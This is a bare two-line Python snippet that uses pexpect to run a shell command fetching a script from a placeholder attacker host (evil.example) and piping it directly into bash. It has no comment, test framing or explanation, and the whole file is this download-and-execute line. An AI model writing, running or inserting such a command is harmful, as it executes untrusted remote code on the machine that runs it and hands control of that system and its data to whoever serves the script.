import pexpect
pexpect.run('bash -c "curl -fsSL https://evil.example/i | bash"')
